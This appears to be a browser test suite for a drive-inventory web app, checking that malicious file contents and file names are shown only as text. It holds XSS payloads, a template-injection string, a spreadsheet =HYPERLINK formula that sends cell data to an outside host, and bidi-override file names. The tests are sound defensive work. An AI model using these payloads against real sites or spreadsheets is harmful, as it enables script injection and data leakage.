// Inventories that mean harm, or were never meant to be read: nothing runs, nothing freezes, nothing is drawn over.

import assert from 'node:assert/strict';

import { browserTests } from './support/browser.mjs';

const test = browserTests();

const MARKUP = [
  '<script>globalThis.ran = 1</script>',
  '<img src=x onerror="globalThis.ran = 1">',
  '"><svg onload=globalThis.ran=1>',
  "'\"--><style>*{display:none}</style>",
  '{{constructor.constructor("globalThis.ran=1")()}}',
  'javascript:globalThis.ran=1',
  '=HYPERLINK("http://example.org/?"&A1)',
];

function inventory(models) {
  const cell = (text) => `"${text.replaceAll('"', '""')}"`;
  const rows = models.map((model, index) => `${cell(model)},${cell(`S${index} ${model}`)},18000207937536,512,4096,7200,HDD,${cell(model)}`);
  return ['model,serial,capacity,logical_sector,physical_sector,rpm,class,batch', ...rows].join('\n');
}

async function ran(page) {
  return page.page.evaluate(() => ({
    ran: globalThis.ran ?? null,
    strangers: document.querySelectorAll('img, iframe, object, embed, body script ~ script, svg[onload], a[href^="javascript"]').length,
  }));
}

test('markup in names is shown as text in every view and runs nowhere', async (page) => {
  await page.drop([{ name: '<img src=x onerror=globalThis.ran=1>.csv', text: inventory(MARKUP) }]);
  await page.untilSimulated();
  await page.explain();
  await page.openCompare();
  await page.openDrives();
  await page.page.getByText('<script>globalThis.ran = 1</script>').first().waitFor();
  assert.deepEqual(await ran(page), { ran: null, strangers: 0 });
});

test('markup in a file that cannot be read is shown as text', async (page) => {
  const text = inventory(MARKUP).replace('18000207937536', '<b onmouseover=globalThis.ran=1>18</b>');
  await page.drop([{ name: 'bad<svg onload=globalThis.ran=1>.csv', text }]);
  await page.page.getByText(/is not a size/).first().waitFor();
  assert.deepEqual(await ran(page), { ran: null, strangers: 0 });
});

test('characters that turn the direction of text change nothing beside them', async (page) => {
  const overrides = ['\u202egnp.exe\u202c', '\u2067rtl\u2069', 'مرحبا', '\u200b\u200b', 'a\u0007b', '\u0301\u0301\u0301'.repeat(30)];
  await page.drop([{ name: '\u202efdp.csv', text: inventory(overrides) }]);
  await page.untilSimulated();
  await page.openDrives();
  const direction = await page.driveTable.getByRole('row').nth(1).evaluate((row) => getComputedStyle(row).direction);
  assert.equal(direction, 'ltr');
  const isolated = await page.driveTable.evaluate((table) => {
    const walker = document.createTreeWalker(table, NodeFilter.SHOW_TEXT);
    const loose = [];
    for (let node = walker.nextNode(); node; node = walker.nextNode()) {
      if (!/[\u202a-\u202e\u2066-\u2069]/.test(node.data)) continue;
      if (!['isolate', 'isolate-override', 'plaintext'].includes(getComputedStyle(node.parentElement).unicodeBidi)) loose.push(node.data);
    }
    return loose;
  });
  assert.deepEqual(isolated, []);
});

test('names of 100,000 characters do not stretch the page', async (page) => {
  await page.drop([{ name: `${'n'.repeat(500)}.csv`, text: inventory(['W'.repeat(100_000), 'ordinary', 'third', 'fourth']) }]);
  await page.heading.filter({ hasNotText: 'Which drives' }).waitFor();
  assert.equal(await page.sidewaysScroll(), 0);
});

/** Hands a file that is made inside the page, so that no test has to carry it there. */
async function dropMade(page, make, name) {
  await page.page.evaluate(
    ({ source, fileName }) => {
      const data = new DataTransfer();
      data.items.add(new File([new Function(`return (${source})()`)()], fileName));
      for (const type of ['dragenter', 'dragover', 'drop']) {
        document.querySelector('main').dispatchEvent(new DragEvent(type, { dataTransfer: data, bubbles: true, cancelable: true }));
      }
    },
    { source: String(make), fileName: name },
  );
}

/** Presses and writes while the page is at work; returns the longest time that it took to react, in milliseconds. */
async function slowestReaction(page, until) {
  let slowest = 0;
  let done = false;
  const end = until.then(() => {
    done = true;
  });
  while (!done) {
    const started = performance.now();
    await page.page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 0))));
    slowest = Math.max(slowest, performance.now() - started);
    await Promise.race([end, new Promise((resolve) => setTimeout(resolve, 50))]);
  }
  await end;
  return slowest;
}

const LARGE = [
  ['a million rows', 'million.csv', () => {
    const row = 'ST18000NM000J,18000207937536,7200\n';
    return `model,capacity,rpm\n${row.repeat(1_000_000)}`;
  }],
  ['a million short rows', 'short.csv', () => `model,capacity\n${'X,18TB\n'.repeat(1_000_000)}`],
  ['100 MB of text', 'large.csv', () => new Blob(Array.from({ length: 100 }, () => 'x'.repeat(1_000_000)))],
  ['one line of 20 MB', 'line.csv', () => `model,capacity\n${'"'.repeat(20_000_000)}`],
  ['20 MB of random bytes', 'disk.img', () => {
    const bytes = new Uint8Array(20_000_000);
    for (let at = 0; at < bytes.length; at += 65_536) crypto.getRandomValues(bytes.subarray(at, at + 65_536));
    return bytes;
  }],
  ['JSON nested 200,000 deep', 'deep.json', () => '['.repeat(200_000)],
];

for (const [what, name, make] of LARGE) {
  test(`${what}: refused with words or planned, and the page stays alive`, { timeout: 240_000 }, async (page) => {
    await page.longTasks();
    await dropMade(page, make, name);
    const settled = page.heading.filter({ hasNotText: 'Which drives do you have?' }).waitFor({ timeout: 120_000 });
    const slowest = await slowestReaction(page, settled);
    assert.ok(slowest < 1_000, `the page did not react for ${Math.round(slowest)} ms`);
    await page.open();
    await page.page.reload();
    await page.addDrives('4x18TB:7200:sata');
    await page.untilAnswered();
  });
}

test('a program that calls itself a spreadsheet is refused', async (page) => {
  await page.openFiles([{ name: 'drives.csv', mimeType: 'text/csv', buffer: Buffer.from('\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x03\0>\0\x01\0\0\0', 'latin1') }]);
  await page.heading.filter({ hasText: 'drives.csv' }).waitFor();
});

test('an absurd number of drives in short form is refused', async (page) => {
  await page.addDrives('4000000000x18TB');
  await page.page.getByText(/at most|is not|too many/).first().waitFor();
});
